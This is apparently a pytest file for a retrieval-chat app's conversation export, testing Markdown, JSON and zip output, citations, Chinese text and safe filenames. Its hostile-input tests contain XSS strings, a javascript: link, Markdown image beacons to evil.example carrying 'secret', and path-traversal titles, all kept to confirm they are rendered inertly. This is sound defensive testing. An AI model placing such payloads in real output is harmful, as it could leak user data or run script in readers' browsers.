"""A saved conversation exported (ragapp.engine.chat_export, chat_archive), from hand-built turns: the Markdown and
the JSON hold each answer's citations with document and page, its confidence and agent steps; Chinese reads as
Chinese; hostile titles and text stay text; the zip names every chat's files uniquely and safely."""

from __future__ import annotations

import io
import json
import re
import zipfile

import markdown_it
import pytest

from ragapp.core.events import AgentStepEvent, AnswerEvent, ClarifyEvent, ModeEvent
from ragapp.core.turn import Exchange, Turn
from ragapp.core.types import Chunk, Citation, Confidence, ConfidenceCheck, LeafScore
from ragapp.engine.chat_archive import STEM_CHARS, archive, download_name, safe_stem, unique_names
from ragapp.engine.chat_export import FORMAT, VERSION, escaped, to_json, to_markdown
from ragapp.engine.conversations import SavedConversation

WHEN = "2026-12-03T10:07:11+00:00"


def _citation(number: int, source: str, page: int | None, heading: str | None = None, doc: str = "d1") -> Citation:
    text = f"Passage {number} of {source}: the battery lasts 90 minutes."
    chunk = Chunk(f"{doc}-c{number}", doc, number, text, source, page=page, heading=heading)
    return Citation(number, chunk, 0.8, highlights=("the battery lasts 90 minutes.",))


def _exchange(question: str, text: str, citations: tuple[Citation, ...], **turn_fields: object) -> Exchange:
    confidence = turn_fields.pop("confidence", Confidence("high", (ConfidenceCheck("supported", True),)))
    turn = Turn(question=question, trace_id="t1", **turn_fields)  # type: ignore[arg-type]
    turn.answer = AnswerEvent(text, citations, grounded=True, confidence=confidence)  # type: ignore[arg-type]
    return Exchange(question, turn)


def _saved(*exchanges: Exchange, title: str = "Battery", deleted: frozenset[str] = frozenset()) -> SavedConversation:
    return SavedConversation("c1", title, {}, exchanges, (), deleted, WHEN, WHEN)


def _parsed_text(markdown: str) -> str:
    """What a Markdown renderer shows: the text of every inline token (so markup never shows, escapes vanish)."""
    tokens = markdown_it.MarkdownIt("commonmark").parse(markdown)
    return "\n".join(
        "".join(c.content if c.type in ("text", "code_inline") else " " for c in t.children or [])
        for t in tokens
        if t.type == "inline"
    )


def _html(markdown: str) -> str:
    return markdown_it.MarkdownIt("commonmark").render(markdown)


def test_markdown_and_json_hold_each_answers_citations_with_document_and_page() -> None:
    cites = (_citation(1, "robots.md", 3, "Battery"), _citation(2, "manual.pdf", 12, doc="d2"))
    saved = _saved(
        _exchange("How long does the battery last?", "It lasts 90 minutes [1], says the manual [2].", cites),
        deleted=frozenset({"d2"}),
    )
    md = to_markdown(saved)
    assert md.startswith("# Battery\n")
    assert "2026-12-03 10:07 UTC" in md
    assert "## Q: How long does the battery last?" in md
    assert "It lasts 90 minutes [1], says the manual [2]." in md
    assert "- [1] **robots.md**, page 3, Battery" in md
    assert "- [2] **manual.pdf**, page 12 (document deleted since)" in md
    assert "  > the battery lasts 90 minutes." in md
    assert "*Confidence: high*" in md
    assert "<" not in md  # no HTML of the app's (its citation spans, marks)

    body = json.loads(to_json(saved, WHEN))
    assert (body["format"], body["version"], body["title"], body["exported_at"]) == (FORMAT, VERSION, "Battery", WHEN)
    (exchange,) = body["exchanges"]
    assert exchange["question"] == "How long does the battery last?"
    assert [(c["number"], c["document"], c["page"], c["heading"]) for c in exchange["citations"]] == [
        (1, "robots.md", 3, "Battery"),
        (2, "manual.pdf", 12, None),
    ]
    assert [c["document_deleted"] for c in exchange["citations"]] == [False, True]
    assert exchange["citations"][0]["highlights"] == ["the battery lasts 90 minutes."]
    assert exchange["confidence"] == {
        "level": "high",
        "probability": None,
        "checks": [{"check": "supported", "passed": True, "detail": ""}],
    }


def test_a_low_confidence_answer_says_so_as_the_chat_does() -> None:
    doubt = Confidence("low", (ConfidenceCheck("fits", False, "the question asks for a duration"),))
    saved = _saved(_exchange("How long?", "It is blue [1].", (_citation(1, "robots.md", 1),), confidence=doubt))
    assert "*Confidence: not sure. ⚠️ May be wrong — check the sources below (it may not answer what was asked).*" in (
        to_markdown(saved)
    )
    assert json.loads(to_json(saved))["exchanges"][0]["confidence"]["level"] == "low"


def test_a_chinese_conversation_reads_as_chinese() -> None:
    doubt = Confidence("low", (ConfidenceCheck("supported", False),))
    cite = _citation(1, "流明台灯说明书.pdf", 7, "电池")
    said = _exchange("台灯的电池能用多久？", "充满电可使用 14 小时 [1]。", (cite,), confidence=doubt)
    saved = _saved(said, title="台灯的电池能用多久？")
    md = to_markdown(saved)
    assert md.startswith("# 台灯的电池能用多久？\n\n*ragapp 对话 · 开始于 2026-12-03 10:07 UTC")
    assert "## 问: 台灯的电池能用多久？" in md
    assert "- [1] **流明台灯说明书.pdf**, 第 7 页, 电池" in md
    assert "置信度：不确定。⚠️ 可能有误，请核对下面的原文（有的句子在原文中找不到）。" in md
    body = json.loads(to_json(saved))
    assert body["title"] == "台灯的电池能用多久？"  # as itself, not \\u escapes
    assert "台灯" in to_json(saved) and body["exchanges"][0]["citations"][0]["document"] == "流明台灯说明书.pdf"


def test_an_agent_conversation_lists_its_steps() -> None:
    steps = [
        ModeEvent("agent", "Auto chose agent: the question compares things"),
        AgentStepEvent(1, "finished", "search_knowledge", {"query": "Alpha battery"}, duration_s=0.2),
        AgentStepEvent(2, "failed", "search_knowledge", {"query": "Beta"}, error="timed out after 5 s"),
    ]
    cites = (_citation(1, "alpha.md", 1), _citation(2, "beta.md", 2, doc="d2"))
    saved = _saved(_exchange("Alpha or Beta?", "Alpha lasts 90 minutes [1], Beta 150 [2].", cites, mode="agent",
                             steps=steps))  # fmt: skip
    md = to_markdown(saved)
    assert '*Agent steps:*\n\n1. `search_knowledge(query="Alpha battery")`\n2. `search_knowledge(query="Beta")`' in md
    assert "❌ timed out after 5 s" in md
    assert "- [2] **beta.md**, page 2" in md
    (exchange,) = json.loads(to_json(saved))["exchanges"]
    assert exchange["mode"] == "agent"
    assert [(s["step"], s["tool"], s["status"], s["arguments"]) for s in exchange["agent_steps"]] == [
        (1, "search_knowledge", "finished", {"query": "Alpha battery"}),
        (2, "search_knowledge", "failed", {"query": "Beta"}),
    ]


def test_a_question_asked_back_is_exported_with_its_choices() -> None:
    turn = Turn(question="battery?")
    choice = LeafScore("a", "Products > Alpha", "KB", None, 0.6)
    turn.clarify = ClarifyEvent("battery?", ("battery?",), "battery?", (choice,))
    saved = _saved(Exchange("battery?", turn))
    assert "*The app asked back which one was meant:*\n\n- Products › Alpha" in to_markdown(saved)
    (exchange,) = json.loads(to_json(saved))["exchanges"]
    assert exchange["answer"] is None and exchange["asked_back"]["choices"] == ["Products › Alpha"]


def test_a_stopped_answer_keeps_what_it_had_written() -> None:
    turn = Turn(question="How long?")
    turn.streamed = "It lasts 90"
    saved = _saved(Exchange("How long?", turn))
    assert "It lasts 90\n\n*(the answer was stopped before it was finished)*" in to_markdown(saved)
    (exchange,) = json.loads(to_json(saved))["exchanges"]
    assert (exchange["answer"], exchange["answer_so_far"], exchange["citations"]) == (None, "It lasts 90", [])


HOSTILE = [
    "# Heading <script>alert(1)</script>",
    "![x](https://evil.example/leak?q=secret)",
    "[click](javascript:alert(1)) *bold* _it_ `code` | table | ~~strike~~",
    "- a list\n> a quote\n1. a number\n===",
    "&lt;b&gt; an entity",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_titles_questions_and_names_stay_text(text: str) -> None:
    def exported(said: str) -> str:
        cite = _citation(1, said, 2, heading=said)
        return to_markdown(_saved(_exchange(said, "Fine [1].", (cite,)), title=said))

    md = exported(text)
    # The same page as for a harmless title: no tag (heading, link, image, emphasis, script) of the text's own.
    assert _tags(_html(md)) == _tags(_html(exported("plain words")))
    assert " ".join(text.split()) in _parsed_text(md)  # and it reads as typed (on one line)


def _tags(html: str) -> list[str]:
    return re.findall(r"<(/?[a-z0-9]+)", html)


def test_an_answer_keeps_its_markdown_but_loads_nothing_and_shows_no_html() -> None:
    answer = (
        "Steps:\n\n- charge it [1]\n- **wait**\n\n![pixel](https://evil.example/p.png) <img src=x>\n[1]: https://evil"
    )
    html = _html(to_markdown(_saved(_exchange("How?", answer, (_citation(1, "a.md", 1),)))))
    assert "<li>charge it [1]</li>" in html and "<strong>wait</strong>" in html
    assert "<img" not in html and 'href="https://evil' not in html
    assert "pixel (https://evil.example/p.png)" in html


def test_a_conversation_kept_as_shown_is_exported_from_its_messages() -> None:
    messages = (
        {"role": "user", "content": "How long?"},
        {"role": "assistant", "content": "Thinking", "metadata": {"title": "🔎 Search"}},
        {"role": "assistant", "content": 'It lasts <span class="cite-marker">[1]</span> 90 minutes.'},
        {"role": "assistant", "content": "passage", "metadata": {"title": "📄 [1] robots.md · p. 3"}, "cited": 1,
         "label": "[1] robots.md · p. 3", "doc_id": "d1", "doc_deleted": True},
    )  # fmt: skip
    saved = SavedConversation("c1", "Old", {}, (), messages, frozenset(), WHEN, WHEN)
    md = to_markdown(saved)
    assert "## Q: How long?" in md and "It lasts [1] 90 minutes." in md
    assert "- \\[1\\] robots.md · p. 3 (document deleted since)" in md
    body = json.loads(to_json(saved))
    assert body["kept_as_shown"] is True
    assert body["exchanges"] == [{"question": "How long?", "answer": "It lasts [1] 90 minutes.", "citations": [
        {"number": 1, "label": "[1] robots.md · p. 3", "doc_id": "d1", "document_deleted": True}]}]  # fmt: skip


@pytest.mark.parametrize(
    ("title", "stem"),
    [
        ("../../etc/passwd", "etc-passwd"),
        ("..", "chat"),
        ("CON", "chat"),
        ("电池 能用多久？", "电池-能用多久"),
        ('a/b\\c:d*e?f"g<h>i|j', "a-b-c-d-e-f-g-h-i-j"),
        ("", "chat"),
        ("\x00\n\t", "chat"),
    ],
)
def test_file_names_from_titles_are_safe(title: str, stem: str) -> None:
    assert safe_stem(title) == stem


def test_a_very_long_title_makes_a_short_name() -> None:
    name = download_name("x" * 5000, ".md", WHEN)
    assert name == f"2026-12-03-{'x' * STEM_CHARS}.md"
    assert escaped("x" * 5000) == "x" * 5000  # the title itself is kept whole inside the file


def test_repeated_names_are_numbered() -> None:
    assert unique_names(["a", "A", "a", "b"]) == ["a", "A-2", "a-3", "b"]


def test_the_zip_holds_every_chat_twice_under_unique_names_and_an_index() -> None:
    chats = [
        SavedConversation(f"c{i}", title, {}, (_exchange("Q?", f"A{i} [1].", (_citation(1, "r.md", i),)),),
                          (), frozenset(), WHEN, WHEN)
        for i, title in enumerate(["Battery", "battery", "../secret", "台灯的电池"])
    ]  # fmt: skip
    made = archive(chats, WHEN)
    assert (made.name, made.media_type, made.count) == ("ragapp-chats-2026-12-03.zip", "application/zip", 4)
    with zipfile.ZipFile(io.BytesIO(made.data)) as zipped:
        names = zipped.namelist()
        index = json.loads(zipped.read("index.json"))
        assert index["format"] == "ragapp.conversations" and len(index["conversations"]) == 4
        for i, listed in enumerate(index["conversations"]):
            assert listed["id"] == f"c{i}"
            assert json.loads(zipped.read(listed["json"]))["exchanges"][0]["citations"][0]["page"] == i
            assert f"[1] **r.md**, page {i}" in zipped.read(listed["markdown"]).decode("utf-8")
        assert "index.md" in names
    stems = [n.rsplit(".", 1)[0] for n in names if n.endswith(".md") and n != "index.md"]
    assert stems == ["2026-12-03-Battery", "2026-12-03-battery-2", "2026-12-03-secret", "2026-12-03-台灯的电池"]
    assert all("/" not in n and "\\" not in n and not n.startswith(".") for n in names)


def test_the_zip_of_no_chats_holds_only_its_index() -> None:
    made = archive([], WHEN)
    assert made.count == 0
    with zipfile.ZipFile(io.BytesIO(made.data)) as zipped:
        assert sorted(zipped.namelist()) == ["index.json", "index.md"]
